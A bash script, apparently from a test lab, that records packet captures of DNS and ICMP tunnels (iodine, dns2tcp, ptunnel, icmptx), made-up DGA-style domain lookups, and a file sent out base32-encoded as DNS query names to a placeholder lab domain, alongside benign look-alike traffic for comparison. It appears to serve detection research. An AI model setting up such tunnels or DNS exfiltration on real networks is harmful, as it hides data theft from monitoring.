#!/bin/bash
# Other tunnels: iodine with NULL records, dns2tcp, ptunnel and icmptx, each a capture; a file sent as names; names that an agent makes up. And what
# looks alike: block lists asked, a mail server's TXT records, pings of all sizes, tracepath, a browser's probes.
. "$(dirname "$0")/../lab.sh"
need iodine dns2tcp ptunnel icmptx iputils-ping iputils-tracepath curl python3 dnsmasq-base bind9-dnsutils
[ -c /dev/net/tun ] || { mkdir -p /dev/net && mknod /dev/net/tun c 10 200; }
lab_start
ICMP="icmp or udp or tcp"
ended() { stop_servers; lab_save "$HERE/$1.pcap"; lab_record "${2:-$ICMP}"; }
mkdir "$LAB/www" && head -c 3000 /dev/zero | tr '\0' 'C' >"$LAB/www/secret.txt"
www() { server_job python3 -m http.server -d "$LAB/www" 80; wait_port 80; }
fetch() { on_client curl -sS -m 30 -o /dev/null --noproxy '*' "$1"; }
lab_save "$LAB/nothing.pcap" && lab_record "$ICMP"

www
server_job iodined -f -c -P lab-pass -u root 10.99.0.1 n.lab.example
sleep 1
client_job iodine -f -r -P lab-pass -u root -T NULL -m 600 $SERVER n.lab.example
for _ in $(seq 100); do on_client ip -4 address show dev dns0 2>/dev/null | grep -q inet && break; sleep 0.2; done
fetch http://10.99.0.1/secret.txt || true
stop_clients
ended iodine-null

www
mkdir "$LAB/jail"
printf 'listen = %s\nport = 53\nuser = root\nchroot = %s\ndomain = d.lab.example\nresources = web:127.0.0.1:80\n' $SERVER "$LAB/jail" >"$LAB/dns2tcpd.conf"
server_job dns2tcpd -F -d 1 -f "$LAB/dns2tcpd.conf"
sleep 1
client_job dns2tcpc -z d.lab.example -r web -l 8888 -d 1 $SERVER
sleep 2
for _ in 1 2 3 4 5; do on_client curl -sS -m 30 -o /dev/null --noproxy '*' http://127.0.0.1:8888/secret.txt || true; done
stop_clients
ended dns2tcp

www
on_server sysctl -qw net.ipv4.icmp_echo_ignore_all=1
server_job ptunnel
sleep 1
client_job ptunnel -p $SERVER -lp 8889 -da $SERVER -dp 80
sleep 1
for _ in 1 2 3 4 5 6; do on_client curl -sS -m 30 -o /dev/null --noproxy '*' http://127.0.0.1:8889/secret.txt || true; done
stop_clients
ended ptunnel

www
server_job icmptx -s 10.98.0.1
client_job icmptx -c $SERVER
sleep 1
for side in server client; do
  [ $side = server ] && far=1 || far=2
  ip -n "lab-$side-$$" address add 10.98.0.$far/24 dev tun0 && ip -n "lab-$side-$$" link set tun0 mtu 1300 up
done
sleep 1
for _ in 1 2 3 4; do fetch http://10.98.0.1/secret.txt || true; done
stop_clients
ended icmptx
on_server sysctl -qw net.ipv4.icmp_echo_ignore_all=0

resolver() {
  server_job dnsmasq -k -C /dev/null -u root --no-resolv --no-hosts --no-daemon --local=/com/ --local=/net/ --local=/org/ --local=/info/ \
    --local=/example/ --address=/www.lab.example/10.9.0.5 --address=/2.0.0.127.list.lab.example/127.0.0.2 \
    --txt-record=key1._domainkey.lab.example,"v=DKIM1; k=rsa; p=$(head -c 180 /dev/zero | base64 -w0)" --txt-record=lab.example,"v=spf1 mx -all" \
    --txt-record=_dmarc.lab.example,"v=DMARC1; p=reject" "$@"
  sleep 1
}
ask() { on_client dig +tries=1 +time=1 @$SERVER "$@" >/dev/null || true; }
resolver
on_client python3 "$HERE/made_up.py" letters 40 | while read -r name; do ask "$name" </dev/null; done
ended dga
resolver
on_client python3 "$HERE/made_up.py" words 40 | while read -r name; do ask "$name" </dev/null; done
ended dga-words
resolver --address=/e.lab.example/10.9.0.5
base32 -w 45 /usr/share/common-licenses/BSD | head -60 | while read -r piece; do ask "${piece%%=*}.e.lab.example" </dev/null; done
ended names-out

# Look-alikes.
resolver
for n in $(seq 80); do ask "$((n * 7 % 250)).$((n * 13 % 250)).$((n % 9)).198.list.lab.example"; done
for _ in $(seq 20); do ask TXT key1._domainkey.lab.example; ask TXT lab.example; ask TXT _dmarc.lab.example; done
ended mail-checks
resolver
for name in qxwvbnzrtk plmoknijbu zqwsxedcrf; do ask $name; done
for name in www.lab.example wpad.lab.example isatap.lab.example ww.lab.example mail.lab.example imap.lab.example; do ask $name; ask AAAA $name; done
for _ in $(seq 30); do ask www.lab.example; done
ended probes
for size in 56 100 500 1000 1400; do on_client ping -q -c 8 -i 0.2 -s $size $SERVER >/dev/null; done
on_client ping -q -c 10 -i 0.2 -p deadbeef $SERVER >/dev/null
for size in 1500 1490 1480 1472 1464 1400; do on_client ping -q -c 2 -i 0.2 -M do -s $size $SERVER >/dev/null 2>&1 || true; done
on_client tracepath -n $SERVER >/dev/null
stop_servers
lab_save "$HERE/pings.pcap"
